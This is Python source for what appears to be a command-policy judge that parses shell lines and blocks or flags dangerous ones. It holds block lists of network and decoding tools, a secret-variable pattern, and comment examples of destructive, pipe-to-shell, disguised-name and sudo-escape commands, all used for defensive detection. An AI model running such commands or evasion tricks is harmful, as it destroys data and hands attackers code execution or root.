"""Judge a command line: parse → unwrap → facts → rules → one Verdict."""

from __future__ import annotations

import base64
import binascii
import posixpath
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from functools import lru_cache

from shturman.domain.models import Decision
from shturman.domain.verdict import Reason
from shturman.policy import effects as fx
from shturman.policy import escapes, exposure, grammar, indirection, peers, sinks
from shturman.policy.autonomy import Backups
from shturman.policy.checkers import Rejection
from shturman.policy.daemons import remote_daemon
from shturman.policy.inline import (
    analyse_code,
    awk_findings,
    inline_code,
    interpreter_family,
    sed_executes,
)
from shturman.policy.limits import Budget, confusable_path
from shturman.policy.rules import Facts, Rule, RuleSet, present
from shturman.policy.shell import SimpleCommand, Word, decode_ansi_c, parse
from shturman.policy.texts import reason
from shturman.policy.unwrap import (
    SHELLS,
    Invocation,
    Unwrapped,
    find_name_pattern,
    program_name,
    unwrap,
)

MAX_DEPTH = 8
FETCHERS = frozenset(
    [
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "fetch",
        "aria2c",
        "lynx",
        "links",
        "ftp",
        "tftp",
        "http",
        "https",
        "httpie",
        "openssl",
        "ssh",
        "s_client",
        "xh",
    ]
)
DECODERS = frozenset(
    [
        "base64",
        "base32",
        "basenc",
        "xxd",
        "uudecode",
        "rev",
        "tr",
        "gzip",
        "gunzip",
        "zcat",
        "bzip2",
        "bunzip2",
        "bzcat",
        "xz",
        "unxz",
        "xzcat",
        "openssl",
        "od",
        "python",
        "python3",
        "perl",
        "ruby",
    ]
)
_GLOB = frozenset("*?[")
# programs a glob or computed program name is tested against, besides those rules name
_COMMON_PROGRAMS = frozenset(
    [
        "rm",
        "mv",
        "cp",
        "dd",
        "ln",
        "sh",
        "bash",
        "dash",
        "zsh",
        "cat",
        "tee",
        "chmod",
        "chown",
        "shred",
        "wipefs",
        "mkfs",
        "kill",
        "pkill",
        "killall",
        "truncate",
        "find",
        "xargs",
        "curl",
        "wget",
        "nc",
        "python",
        "python3",
        "perl",
        "reboot",
        "shutdown",
        "crontab",
        "passwd",
        "userdel",
        "iptables",
        "ufw",
        "systemctl",
    ]
)
# programs that run the shell script fed on their standard input later
_STDIN_SCHEDULERS = frozenset(["at", "batch"])
# fetchers that can save what they download to a file
_DOWNLOADERS = frozenset(["curl", "wget", "fetch", "aria2c", "http", "xh", "tftp", "ftp"])
# programs that print their arguments or the files they name
_PRINTERS = frozenset(
    [
        "echo",
        "printf",
        "cat",
        "tac",
        "head",
        "tail",
        "less",
        "more",
        "base64",
        "base32",
        "xxd",
        "od",
        "hexdump",
        "strings",
        "nl",
        "print",
        "awk",
        "sed",
        "grep",
    ]
)
_SECRET_VAR = re.compile(
    r"\$\{?#?([A-Za-z_]*(?:PASS|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|"
    r"KUBECONFIG|DATABASE_URL|DSN|VAULT_|AUTH_?KEY|SESSION_?KEY|SIGNING_?KEY|ENCRYPTION_?KEY|"
    r"MASTER_?KEY|CLIENT_?KEY|SSH_?KEY)[A-Za-z0-9_]*)",
    re.I,
)
_PURE_READERS = frozenset(
    [
        "echo",
        "ls",
        "cat",
        "grep",
        "egrep",
        "fgrep",
        "zgrep",
        "rg",
        "wc",
        "stat",
        "file",
        "du",
        "head",
        "tail",
        "md5sum",
        "sha1sum",
        "sha256sum",
        "sha512sum",
        "printf",
        "basename",
        "dirname",
        "realpath",
        "readlink",
    ]
)


# readers that print what the files hold (the others print names, sizes or sums)
_CONTENT_PRINTERS = frozenset(
    ["cat", "grep", "egrep", "fgrep", "zgrep", "rg", "head", "tail", "tac", "strings"]
)


@dataclass(slots=True)
class Findings:
    reasons: list[Reason] = field(default_factory=list)
    commands: list[str] = field(default_factory=list)
    budget: Budget = field(default_factory=Budget)  # shared by everything one line runs
    # registered servers' names, aliases and addresses (`peers.known_names`): an ssh-family
    # client reaching any other host needs confirmation; None: no inventory to compare with
    peers: frozenset[str] | None = None

    def add(self, rule_id: str, decision: Decision, cmd: str, **fmt: str) -> None:
        self.reasons.append(reason(rule_id, decision, cmd, **fmt))

    def add_rule(self, rule: Rule, cmd: str) -> None:
        s = rule.spec
        self.reasons.append(Reason(s.id, s.decision, s.en, s.ru, cmd, s.autonomy))


class Judge:
    def __init__(self, rules: RuleSet) -> None:
        self.rules = rules
        base = grammar.load()
        # a rule file's own grammars (for the programs it allows) add to the default ones
        self.grammars = (
            grammar.Grammars(grammar.LayeredPrograms(base.programs, rules.grammars),
                             base.version_only)
            if rules.grammars
            else base
        )
        # global options that take a value, from the grammars too: `docker --host X ps`;
        # computed per program when first asked (a grammar is unpickled on first use)
        self._value_opts: dict[str, frozenset[str]] = {}

    def _value_options(self, name: str) -> frozenset[str]:
        found = self._value_opts.get(name)
        if found is None:
            found = self.rules.value_options.get(name, frozenset()) | self.grammars.value_options(
                name
            )
            if len(self._value_opts) < 8192:  # bounded: names come from untrusted input
                self._value_opts[name] = found
        return found

    def script(self, source: str, out: Findings, depth: int = 0) -> None:
        if depth > MAX_DEPTH:
            out.add("shell.too_deep", Decision.BLOCK, source[:80])
            return
        parsed = parse(source)
        if parsed.limit:
            out.add(parsed.limit, Decision.BLOCK, source[:80])
            return
        if not out.budget.spend(len(parsed.commands) or 1):
            out.add("input.budget", Decision.BLOCK, source[:80])
            return
        for err in parsed.errors[:1]:
            out.add("shell.parse_error", Decision.BLOCK, source[:80], detail=err)
        for name in parsed.recursive_functions:
            out.add("shell.fork_bomb", Decision.BLOCK, name)
        for loop in parsed.busy_loops:
            out.add("resource.busy_loop", Decision.BLOCK, loop)
        downloaded: set[str] = set()
        remotes: dict[str, str] = {}
        backups = Backups()
        for cmd in parsed.commands:
            text = _display(cmd)
            out.commands.append(text)
            start = len(out.reasons)
            chain = self.command(cmd, out, depth, text)
            backups.review(cmd, out.reasons, start)
            _track_downloads(cmd, downloaded, out, self.rules.examples, chain)
            _track_remotes(cmd, remotes, out, chain)

    # ---- one simple command -----------------------------------------------------------
    def command(
        self, cmd: SimpleCommand, out: Findings, depth: int, text: str | None = None
    ) -> Unwrapped | None:
        """``text``: ``_display(cmd)`` when the caller has it already. Returns the wrapper
        chain of the command's own words (``unwrap(program_name(words[0]), words[1:])``)
        when it was computed as such, for `_track_downloads`; else None."""
        if text is None:
            text = _display(cmd)
        assigns = [f"{n}={v.value}" for n, v in cmd.assignments]
        if not cmd.words:
            self._assignments(assigns, text, out)
            return None
        head = cmd.words[0]
        if not head.value.isascii() and any(c.isalpha() and not c.isascii() for c in head.value):
            # `cаt` with a Cyrillic `а`: a look-alike of a known program
            out.add("shell.confusable_name", Decision.BLOCK, text)
        if any(confusable_path(w.value) for w in cmd.words[1:]) or any(
            r.target is not None and confusable_path(r.target.value) for r in cmd.redirects
        ):
            out.add("shell.confusable_path", Decision.BLOCK, text)
        if _SLICED.search(head.raw):  # `${v:2:2} -rf …`: no one spells a program that way
            out.add("shell.sliced_name", Decision.BLOCK, text)
        if not head.literal or any(c in head.value for c in _GLOB):
            self._dynamic_name(cmd, text, out, depth)
            return None
        if head.disguised and "/" not in head.raw.strip("'\"") and not _alias_bypass(head):
            out.add("shell.disguised_name", Decision.CONFIRM, text)
            # `IFS=,; c=rm,-rf,/; $c`: a custom IFS splits the name at run time
            split = " ".join(p for p in re.split(r"[^\w./+@%=-]+", head.value) if p)
            # `X="rm -rf"; $X /`: an unquoted variable splits into the program and options
            unquoted = not head.raw.startswith(('"', "'"))
            if split and (split != head.value or (unquoted and " " in head.value.strip())):
                self._guesses(cmd, [split], text, out, depth)
        name = program_name(head.value)
        args = cmd.words[1:]
        plain = True  # name and args are the command's own words (see the return value)
        if (  # `python3 -m pip freeze` is `pip freeze`
            interpreter_family(name) == "python"
            and len(args) >= 2
            and args[0].value == "-m"
            and args[1].value in ("pip", "pip3")
        ):
            name, args = "pip", args[2:]
            plain = False
        if name == "alias":  # `alias ls='rm -rf /'`: judge what the alias would run
            for w in args:
                if "=" in w.value and not w.value.startswith("-"):
                    self.script(w.value.split("=", 1)[1], out, depth + 1)
        if name == "xargs":  # `echo / | xargs rm -rf`: the piped words are known
            piped = " ".join(t for t in (_echo_output(u) for u in cmd.upstream) if t)
            piped += f" {cmd.stdin_text}" if cmd.stdin_text else ""  # `xargs rm -rf <<< /`
            piped += "".join(f" {f}" for f in (_find_output(u) for u in cmd.upstream) if f)
            args = args + [Word(p, p) for p in piped.replace("\x00", " ").split()]
            plain = False
        chain = unwrap(name, args)
        for origin in chain.dynamic:
            out.add("shell.dynamic_script", Decision.BLOCK, text, origin=origin)
        for origin, source in chain.scripts:
            self.script(source, out, depth + 1)
            if origin.startswith("eval"):
                out.add("shell.eval", Decision.CONFIRM, text)
            via = escapes.escape_via(chain.inner.via) if chain.inner.name in SHELLS else ""
            if (
                (escapes.script_escapes(origin) or via)
                and not chain.inner.remote
                and not _privileged(chain.inner.via)
                and escapes.opens_shell(source)
            ):
                out.add("shell.escape", Decision.BLOCK, text, via=via or origin)
        assigns += chain.env
        for path in chain.startup:  # `bash --rcfile /tmp/x -i`: runs that file first
            out.add("shell.startup_file", Decision.CONFIRM, text, path=path)
        password = exposure.password_variable(assigns)
        if password is not None:
            out.add("secrets.password_argv", Decision.BLOCK, text, what=password)
        for a in assigns:  # `GIT_PAGER='curl … | sh' git log`: the value is a command line
            var, _, value = a.partition("=")
            if var in _COMMAND_VARS and value.strip():
                line = value.strip().lstrip("|").replace("%s", "FILE")
                self.script(line, out, depth + 1)
                if escapes.runs_code(line):  # `PAGER='sh -c …' journalctl`
                    out.add("shell.hidden_code", Decision.BLOCK, text, where=var)
            if var in escapes.EDITOR_VARS and value.strip():
                self._editor(value, cmd, chain.inner, out, depth)
        for i, inv in enumerate(chain.chain):
            last = i == len(chain.chain) - 1
            self._invocation(
                inv,
                cmd,
                assigns,
                last,
                out,
                depth,
                runs_script=bool(chain.scripts or chain.dynamic),
            )
        _runs_elsewhere(chain, text, out)
        inner = chain.inner
        fam = interpreter_family(inner.name)
        if fam and fam != "awk" and not chain.interactive:
            code, script_file = inline_code(fam, [w.value for w in inner.args])
            if code is None and not script_file and (cmd.upstream or cmd.stdin_text):
                chain.interactive = True
        if (
            inner.name in _STDIN_SCHEDULERS
            and (cmd.upstream or cmd.stdin_text)
            and not any(w.value in ("-f", "-l", "-r", "-d", "-c") for w in inner.args)
        ):
            self._stdin_program(inner, cmd, text, out, depth)
        fed = bool(cmd.upstream) or cmd.stdin_text is not None
        if (
            chain.interactive
            and inner.name in SHELLS
            and not fed
            and not inner.remote
            and not _privileged(inner.via)
            and escapes.escape_via(inner.via)
        ):  # `timeout 1 sh`, `find . -exec /bin/sh \;`: a shell by way of another program
            out.add("shell.escape", Decision.BLOCK, text, via=escapes.escape_via(inner.via))
        if chain.interactive and inner.name in SHELLS and _escaped_to(inner.via):
            # `sudo find . -exec /bin/sh \;`, `sudo env /bin/sh`: a root shell by way of
            # another program (the GTFOBins shape)
            out.add("priv.shell_escape", Decision.BLOCK, text, via=_escaped_to(inner.via))
        if chain.interactive:
            if inner.name in SHELLS or interpreter_family(inner.name):
                self._stdin_program(inner, cmd, text, out, depth)
            else:
                out.add("shell.interactive", Decision.CONFIRM, text)
        return chain if plain else None

    def _editor(
        self, value: str, cmd: SimpleCommand, inner: Invocation, out: Findings, depth: int
    ) -> None:
        """`EDITOR='tee -a' visudo`: the editor runs on the program's file with the same
        input, so it is judged as `tee -a /etc/sudoers` fed what the command is fed."""
        files = escapes.edited_files(inner.name, inner.args)
        fed = bool(cmd.upstream) or cmd.stdin_text is not None
        if not files or depth > MAX_DEPTH or (escapes.interactive_editor(value) and not fed):
            return  # `EDITOR=vim visudo`: a person edits, as visudo alone
        words = [Word(v, v) for v in value.split()] + [Word(f, f) for f in files]
        edit = SimpleCommand(
            words=words, upstream=cmd.upstream, stdin_text=cmd.stdin_text, cwd=cmd.cwd
        )
        self.command(edit, out, depth + 1)

    def _assignments(self, assigns: list[str], text: str, out: Findings) -> None:
        facts = _facts("", (), frozenset(), text, fx.Effects(), assigns, (), False, ())
        matched = [r for r in self.rules.generic if r.spec.assigns and r.matches(facts)]
        for r in matched:
            out.add_rule(r, text)
        if not matched:
            out.add("shell.assignment", Decision.ALLOW, text)

    def _dynamic_name(self, cmd: SimpleCommand, text: str, out: Findings, depth: int) -> None:
        head = cmd.words[0]
        out.add("shell.dynamic_name", Decision.CONFIRM, text)
        if any(u in DECODERS | FETCHERS for u in _substituted_names(head.raw)):
            out.add("shell.decoded_command", Decision.BLOCK, text)
        guesses: list[str] = []
        value = head.value.strip()
        if any(c in value for c in _GLOB):
            names = _program_names(self.rules.known_names)
            guesses.extend(fx.glob_select(program_name(value), names))
        elif value:
            guesses.append(value)
            decoded = decode_ansi_c(value)  # `"$(printf 'r\x6d')"`: printf decodes escapes
            if decoded != value:
                guesses.append(decoded)
        elif any(w.value == "-c" for w in cmd.words[1:2]):  # `${SHELL} -c '…'`
            guesses.append("sh")
        # `$(which rm) -rf /`: the look-up names the program; `$RM -rf /`: the arguments
        # alone fit a destructive program
        for g in [
            *indirection.located_names(head.raw),
            *indirection.destructive_guesses(cmd.words[1:]),
        ]:
            if g not in guesses:
                guesses.append(g)
        self._guesses(cmd, guesses, text, out, depth)

    def _guesses(
        self, cmd: SimpleCommand, guesses: list[str], text: str, out: Findings, depth: int
    ) -> None:
        """Judge what a computed or disguised program name could be; block if any is."""
        for g in guesses[:40]:
            if not out.budget.spend():
                out.add("input.budget", Decision.BLOCK, text)
                return
            sub = Findings(budget=out.budget, peers=out.peers)
            words = [Word(w, w) for w in g.split()] + cmd.words[1:]
            guess = SimpleCommand(
                words=words,
                redirects=cmd.redirects,
                upstream=cmd.upstream,
                stdin_text=cmd.stdin_text,
                cwd=cmd.cwd,
            )
            self.command(guess, sub, depth + 1)
            if any(r.decision is Decision.BLOCK for r in sub.reasons):
                out.add("shell.disguised_danger", Decision.BLOCK, text, guess=g)
                out.reasons.extend(r for r in sub.reasons if r.decision is Decision.BLOCK)
                return

    def _invocation(
        self,
        inv: Invocation,
        cmd: SimpleCommand,
        assigns: list[str],
        last: bool,
        out: Findings,
        depth: int,
        runs_script: bool = False,
    ) -> None:
        text = inv.text()
        if last:
            eff = fx.compute(inv, cmd.redirects, cmd.cwd, self.rules.examples)
        else:  # a wrapper: only the files its own options name (`xargs -a LIST`)
            eff = fx.wrapper_effects(inv, cmd.cwd)
            for secret in exposure.files_read(eff.reads)[:1]:
                out.add(f"secrets.{secret.kind.value}", Decision.BLOCK, text, what=secret.what)
        password = exposure.command_line_password(inv)
        if password is not None:
            out.add("secrets.password_argv", Decision.BLOCK, text, what=password)
        if inv.name == "sshpass":
            out.add("auth.password_wrapper", Decision.CONFIRM, text)
        if inv.name in peers.REMOTE_CLIENTS:
            for host in peers.unknown(inv.name, [w.value for w in inv.args], out.peers)[:1]:
                out.add("ssh.unknown_host", Decision.CONFIRM, text, host=host)
            for source in peers.local_commands(inv.name, [w.value for w in inv.args]):
                if _spawns_shell(source):  # the far end's bytes become a local shell's input
                    out.add("ssh.proxy_shell", Decision.BLOCK, text)
                self.script(source, out, depth + 1)
        daemon = remote_daemon(inv, assigns)
        if daemon is not None:
            out.add("docker.remote_daemon", Decision.CONFIRM, text, what=daemon)
        stdin = _stdin_text(cmd) if last else ""
        extra_shell: list[str] = []
        fam = interpreter_family(inv.name)
        args = [w.value for w in inv.args]
        if last and fam is not None:
            extra_shell += self._interpreter(fam, args, text, eff, out)
        if last:  # after the interpreter's own file reads are known
            _credentials(inv, cmd, eff, out)
        if last and inv.name == "sed" and any(sed_executes(a) for a in args):
            out.add("sed.exec", Decision.BLOCK, text)
        if last and eff.dynamic_write:
            out.add("fs.dynamic_write", Decision.CONFIRM, text)
        if last and any(  # `cat < "$FILE"`: which file is read is known only at run time
            r.op == "<"
            and r.target is not None
            and not r.target.literal
            and not posixpath.basename(fx.expansions_as_glob(r.target.raw)).strip("*?")
            for r in cmd.redirects
        ):
            out.add("fs.dynamic_read", Decision.CONFIRM, text)
        if last and inv.name in _PRINTERS and not _into_login(cmd):
            # the words it prints, and a here-string it reads (`base64 -d <<< "$KEY"`)
            given = [*inv.args, *(r.target for r in cmd.redirects
                                  if r.op == "<<<" and r.target is not None)]
            for w in given:
                m = None if w.literal else _SECRET_VAR.search(w.raw)
                if m:
                    out.add("secrets.variable", Decision.BLOCK, text, var=m.group(1))
                    break
        if (
            last
            and any(w.raw.startswith("<(") for w in inv.args)
            and (inv.name in SHELLS or fam or inv.name in ("source", "."))
        ):
            if any(
                n in FETCHERS | DECODERS
                for w in inv.args
                if w.raw.startswith("<(")
                for n in _substituted_names(w.raw)
            ):
                out.add("pipe.remote_to_shell", Decision.BLOCK, text)
            else:
                out.add("shell.stdin_script", Decision.CONFIRM, text)
        upstream = tuple(u.words[0].value.rsplit("/", 1)[-1] for u in cmd.upstream if u.words)
        facts = _facts(
            inv.name,
            args,
            self._value_options(inv.name),
            " ".join([text, stdin]).strip(),
            eff,
            assigns,
            upstream,
            inv.remote,
            inv.find_roots,
        )
        candidates = self.rules.candidates(inv.name, present(facts))
        matched = [r for r in candidates if r.matches(facts)]
        for r in matched:
            out.add_rule(r, text)
        # a wrapper running a remote or inline script (`ssh -F cfg host cmd`): its own
        # options still go through its grammar
        wrapper = runs_script and inv.name in self.grammars.programs
        self._grammar(inv, matched, last and not wrapper, text, out)
        if (
            last
            and (inv.name in SHELLS or (fam and fam != "awk"))
            and any(r.op == "<" and r.target is not None for r in cmd.redirects)
        ):
            out.add("interp.stdin_code", Decision.CONFIRM, text)
        if last and not matched and not runs_script:
            out.add("default.unlisted", Decision.CONFIRM, text)
        if (
            last
            and inv.unknown_args
            and (
                inv.name not in _PURE_READERS
                or (inv.name in _CONTENT_PRINTERS and _names_unseen(cmd, inv.via))
            )
            and not (inv.name == "ps" and _pids_only(cmd))
        ):
            out.add("wrap.unknown_args", Decision.CONFIRM, text)
        if last:
            self._option_commands(inv, extra_shell, text, out, depth)
        if last and inv.name == "kill":  # `kill $(pidof auditd)`: judged as `pkill auditd`
            for target in indirection.signalled_names(inv.args):
                self.script(f"pkill {target}", out, depth + 1)
        if last and _privileged(inv.via):
            _root_escapes(inv, extra_shell, text, out)
        elif last and any(escapes.opens_shell(s) for s in extra_shell):
            out.add("shell.escape", Decision.BLOCK, text, via=inv.name)
        for source in extra_shell:
            self.script(source, out, depth + 1)

    def _grammar(
        self, inv: Invocation, matched: Sequence[Rule], last: bool, text: str, out: Findings
    ) -> None:
        """The grammar gate: a program its rules would allow (or a wrapper around the next
        one) must have every argument accepted by its grammar, else it needs confirmation."""
        if any(r.decision is not Decision.ALLOW for r in matched):
            return
        if last and not matched:
            return
        name = inv.name
        if name not in self.grammars.programs and name not in self.grammars.version_only:
            if not matched or _version_query(inv.args):
                return  # a wrapper no rule names, or `PROG --version`
            # allowed by name alone: its arguments are unknown, so it is not known read-only
            rejected: Rejection | None = Rejection("grammar.unknown_program", name)
        else:
            rejected = self.grammars.check(name, inv.args, name in self.rules.known_names)
        if rejected is not None:
            out.add(rejected.rule_id, Decision.CONFIRM, text, prog=name, arg=rejected.arg)

    def _option_commands(
        self, inv: Invocation, extra_shell: list[str], text: str, out: Findings, depth: int
    ) -> None:
        """Command lines a program runs from its options: an editor's `-c ':!sh'`, a pager's
        `+!cmd` or `-P CMD`, rsync's `-e CMD`. Each is judged; a shell or an interpreter
        where a viewer or a transport belongs is hidden code (`shell.hidden_code`)."""
        for command in escapes.vi_commands(inv.name, inv.args):
            ran = escapes.vi_shell(command)
            if ran is not None:
                extra_shell.append(ran)
        for line in escapes.option_commands(inv.name, inv.args):
            if escapes.opens_shell(line):
                extra_shell.append(line)  # judged below, as an escape
                continue
            if escapes.runs_code(line):
                out.add("shell.hidden_code", Decision.BLOCK, text, where=inv.name)
            self.script(line, out, depth + 1)

    def _interpreter(
        self, fam: str, args: list[str], text: str, eff: fx.Effects, out: Findings
    ) -> list[str]:
        if fam == "awk":
            program = next((a for a in args if not a.startswith("-")), "")
            found = awk_findings(program)
            if found.executes:
                out.add("interp.awk_exec", Decision.CONFIRM, text)
            return found.shell
        code, script_file = inline_code(fam, args)
        if code is None:
            if script_file:
                out.add("interp.script", Decision.CONFIRM, text)
            return []
        out.add("interp.inline_code", Decision.CONFIRM, text)
        found = analyse_code(code)
        if found.reverse_shell:
            out.add("interp.reverse_shell", Decision.BLOCK, text)
        if found.fork_bomb:
            out.add("interp.fork_bomb", Decision.BLOCK, text)
        if found.remote_eval:  # `php -r 'eval(file_get_contents("http://…"));'`
            out.add("pipe.remote_to_shell", Decision.BLOCK, text, source="interpreter code")
        eff.reads.extend(fx.normalise_path(p) for p in found.paths)
        return found.shell

    def _stdin_program(
        self, inv: Invocation, cmd: SimpleCommand, text: str, out: Findings, depth: int
    ) -> None:
        """A shell or interpreter that reads its program from stdin."""
        is_shell = inv.name in SHELLS or inv.name in _STDIN_SCHEDULERS
        for r in cmd.redirects:  # `bash <<< "$(curl …)"`: the script is downloaded
            if r.op == "<<<" and r.target is not None and not r.target.literal:
                subst = _substituted_names(r.target.raw.strip("\"'"))
                if any(n in FETCHERS for n in subst):
                    out.add("pipe.remote_to_shell", Decision.BLOCK, text)
                elif any(n in DECODERS for n in subst):
                    out.add("pipe.decoded_to_shell", Decision.BLOCK, text, source="<<<")
        if cmd.stdin_text is not None:
            if is_shell:
                self.script(cmd.stdin_text, out, depth + 1)
            else:
                self._code_text(cmd.stdin_text, text, out, depth)
            out.add("shell.stdin_script", Decision.CONFIRM, text)
            return
        if any(program_name(d.words[0].value) in FETCHERS for d in cmd.downstream if d.words):
            out.add("net.reverse_shell", Decision.BLOCK, text)
        if not cmd.upstream:
            out.add("shell.interactive", Decision.CONFIRM, text)
            return
        for up in _through_passthroughs(cmd.upstream):
            if not up.words:
                continue
            up_name = program_name(up.words[0].value)
            up_inner = unwrap(up_name, up.words[1:]).inner
            if up_inner.name in FETCHERS:
                out.add("pipe.remote_to_shell", Decision.BLOCK, text, source=up_inner.name)
            elif up_inner.name in DECODERS or up_inner.name == "xargs":
                out.add("pipe.decoded_to_shell", Decision.BLOCK, text, source=up_inner.name)
            else:
                piped = _echo_output(up)
                if piped is None:
                    out.add("shell.stdin_script", Decision.CONFIRM, text)
                elif is_shell:
                    self.script(piped, out, depth + 1)
                else:
                    self._code_text(piped, text, out, depth)
        out.add("shell.stdin_script", Decision.CONFIRM, text)
        if any(program_name(d.words[0].value) in FETCHERS for d in cmd.downstream if d.words):
            out.add("net.reverse_shell", Decision.BLOCK, text)

    def _code_text(self, code: str, text: str, out: Findings, depth: int) -> None:
        found = analyse_code(code)
        if found.reverse_shell:
            out.add("interp.reverse_shell", Decision.BLOCK, text)
        for secret in exposure.code_credentials(code, found.paths):  # code fed on stdin
            out.add(f"secrets.{secret.kind.value}", Decision.BLOCK, text, what=secret.what)
            break
        for source in found.shell:
            self.script(source, out, depth + 1)


# programs that run what follows them with another user's rights
_PRIVILEGE = frozenset(["sudo", "doas", "pkexec", "runuser", "run0", "sudo-rs", "su"])
# interactive programs a person drives, which all open a shell on request (`!sh` in a pager
# or an editor, `:shell`, a pager under `git -p`): under sudo each is a root shell away
_ROOT_INTERACTIVE = frozenset(
    [
        "less", "more", "most", "pg", "man", "vi", "vim", "view", "nvim", "rvim", "rview",
        "vimdiff", "gvim", "ex", "nano", "pico", "emacs", "emacsclient", "ed", "red", "joe",
        "jed", "mcedit", "mc", "screen", "tmux", "ftp", "lftp", "sftp", "gdb", "w3m", "lynx",
        "elinks", "links", "irb", "ghci", "iftop", "nmap", "telnet", "byobu", "info", "pinfo",
    ]
)
_VI = frozenset(["vi", "vim", "view", "nvim", "rvim", "rview", "vimdiff", "gvim", "ex"])
# a vi command that runs a program or code (`!sh`, `:shell`, `:terminal`, `:py …`)
_VI_RUNS = re.compile(
    r"!|\b(sh(ell)?|term(inal)?|py(thon)?3?|pyx|lua|perl|ruby|tcl|mz|call|exe(cute)?|"
    r"system|so(urce)?|r(ead)?\s*!|w(rite)?\s*!)\b",
    re.I,
)


_PLAIN_NAME = re.compile(r"[\w.+-]+")


def _alias_bypass(head: Word) -> bool:
    """`\\ls`, `'ls'`, `"df"`: a plain name behind one backslash or inside one pair of
    quotes only skips an alias; the program is plain (`"r""m"` splits a name: disguised)."""
    return bool(_PLAIN_NAME.fullmatch(head.value)) and head.raw in (
        "\\" + head.value,
        f"'{head.value}'",
        f'"{head.value}"',
    )


def _privileged(via: Sequence[str]) -> bool:
    return any(v in _PRIVILEGE for v in via)


def _escaped_to(via: Sequence[str]) -> str:
    """The programs between the last privilege wrapper and a shell (`sudo find … sh` →
    `find`); empty when the shell is the wrapper's own command (`sudo bash`: a root shell
    asked for plainly, which needs a person but is no escape)."""
    last = max((i for i, v in enumerate(via) if v in _PRIVILEGE), default=-1)
    if last < 0:
        return ""
    return " → ".join(v for v in via[last + 1 :] if v not in _PRIVILEGE)


def _spawns_shell(source: str) -> bool:
    """`sh`, `/bin/bash -i`, `exec sh -p`: a shell started with no script to run."""
    words = source.split()
    while words and words[0] in ("exec", "command", "env", "nohup"):
        words = words[1:]
    if not words or program_name(words[0]) not in SHELLS:
        return False
    return not any(
        w.startswith("-") and not w.startswith("--") and "c" in w[1:] for w in words[1:]
    ) or "-i" in words[1:]


def _root_escapes(inv: Invocation, shells: Sequence[str], text: str, out: Findings) -> None:
    """Under sudo/doas/pkexec: a shell spawned from an interpreter, awk or an editor's
    command is a root shell by escape → block; an interactive program that can open one on
    a keystroke (a pager, an editor, `man`) needs a person."""
    if any(_spawns_shell(s) for s in shells):
        out.add("priv.shell_escape", Decision.BLOCK, text, via=inv.name)
        return
    args = [w.value for w in inv.args]
    if inv.name in _VI:
        cmds = [a[1:] for a in args if a.startswith("+")]
        cmds += [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-c", "--cmd")]
        if any(_VI_RUNS.search(c) for c in cmds) or any(a in ("-S", "-u") for a in args):
            out.add("priv.shell_escape", Decision.BLOCK, text, via=inv.name)
            return
    if inv.name in ("less", "more", "man") and any(
        (a.startswith("+") and "!" in a) or a in ("-P", "--pager") or a.startswith("--pager=")
        for a in args
    ):
        out.add("priv.shell_escape", Decision.BLOCK, text, via=inv.name)
        return
    if inv.name in _ROOT_INTERACTIVE:
        out.add("priv.interactive", Decision.CONFIRM, text)


_TRACERS = frozenset(["strace", "ltrace", "valgrind", "gdb", "perf", "uftrace", "ptrace"])


def _runs_elsewhere(chain: Unwrapped, text: str, out: Findings) -> None:
    """What a wrapper does beyond its inner command: a tracer (`strace -f ls`) runs the
    program under ptrace, so it executes code and prints its arguments and data."""
    if any(i.name in _TRACERS for i in chain.chain[:-1]):
        out.add("trace.runs_program", Decision.CONFIRM, text)


# environment variables whose value a program runs as a command line (pagers, editors,
# preprocessors, helpers); shell.hijack_env already makes them human-only
_COMMAND_VARS = frozenset(
    [
        "PAGER",
        "GIT_PAGER",
        "MANPAGER",
        "SYSTEMD_PAGER",
        "EDITOR",
        "VISUAL",
        "GIT_EDITOR",
        "SUDO_EDITOR",
        "SYSTEMD_EDITOR",
        "GIT_SEQUENCE_EDITOR",
        "LESSOPEN",
        "LESSCLOSE",
        "GIT_SSH_COMMAND",
        "GIT_EXTERNAL_DIFF",
        "GIT_PROXY_COMMAND",
        "PROMPT_COMMAND",
        "BROWSER",
    ]
)
_PASSTHROUGH = frozenset(["tee", "pv", "cat", "dos2unix", "stdbuf"])


def _through_passthroughs(ups: Sequence[SimpleCommand]) -> list[SimpleCommand]:
    """The commands whose output reaches a reader: `curl … | tee f | bash` runs what curl
    fetched, since `tee` (or `cat`/`pv` without files) copies its stdin on."""
    found: list[SimpleCommand] = []
    seen: set[int] = set()
    stack = list(ups)
    while stack:
        up = stack.pop()
        if id(up) in seen:
            continue
        seen.add(id(up))
        name = program_name(up.words[0].value) if up.words else ""
        files = [w for w in up.words[1:] if not w.value.startswith("-")]
        if up.upstream and (name == "tee" or (name in _PASSTHROUGH and not files)):
            stack.extend(up.upstream)
            if name == "tee":
                continue
        found.append(up)
    return found


_PID_LISTERS = frozenset(["pgrep", "pidof"])
_PID_LISTER_NAMES = frozenset(["-l", "-a", "--list-name", "--list-full"])


def _pids_only(cmd: SimpleCommand) -> bool:
    """`pgrep nginx | xargs ps -p`: the words xargs appends are process ids (pgrep without
    -l/-a prints nothing else), so `ps` cannot be handed an option such as `e`."""
    ups = [u for u in cmd.upstream if u.words]
    return bool(ups) and all(
        program_name(u.words[0].value) in _PID_LISTERS
        and not any(
            w.value in _PID_LISTER_NAMES
            or (w.value[:1] == "-" and w.value[1:2] != "-" and set(w.value[1:]) & set("la"))
            for w in u.words[1:]
        )
        for u in ups
    )


def _names_unseen(cmd: SimpleCommand, via: Sequence[str]) -> bool:
    """`xargs -a LIST cat`, `cat list | xargs cat`: the files a reader gets come from data
    the policy cannot see (a `find` over known roots or a literal `echo` it can)."""
    if "xargs" not in via or not cmd.words:
        return False
    chain = unwrap(program_name(cmd.words[0].value), cmd.words[1:]).chain
    if any(i.name == "xargs" and fx.wrapper_effects(i, cmd.cwd).reads for i in chain):
        return True  # `-a LIST`
    ups = [u for u in cmd.upstream if u.words]
    if not ups:
        return cmd.stdin_text is None
    return not all(
        program_name(u.words[0].value) == "find" or _echo_output(u) is not None for u in ups
    )


def _version_query(args: Sequence[Word]) -> bool:
    """`PROG --version` / `PROG --help`: a program asked only what it is."""
    return len(args) == 1 and args[0].value in grammar.VERSION_ARGS


# a parameter expansion that cuts a string: substring (`${v:2:2}`, `${v: -3}`), prefix or
# suffix removal (`${v#x}`, `${v%%y}`), replacement, case change, indirection (`${!v}`);
# not a default (`${EDITOR:-vi}`) and not a length (`${#v}`)
